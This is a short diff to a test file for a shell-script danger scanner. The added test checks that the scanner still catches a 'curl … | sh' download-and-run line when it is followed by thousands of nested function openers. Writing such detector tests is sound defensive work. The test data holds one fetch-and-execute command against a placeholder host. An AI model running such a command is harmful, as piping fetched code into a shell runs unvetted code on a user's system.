@@ -58,4 +58,9 @@ describe('dangers of a shell script', () => {
   test.each(harmless)('silent: %s', async (script) => {
     expect(await findShellDangers(script)).toEqual([]);
   });
+
+  test('nesting beyond what can be walked hides no download', async () => {
+    const nested = `curl -s https://x.test/i.sh | sh; ${'f() {'.repeat(10_000)}`;
+    expect(await findShellDangers(nested)).toMatchObject([{ what: expect.stringContaining('curl … | sh') }]);
+  });
 });
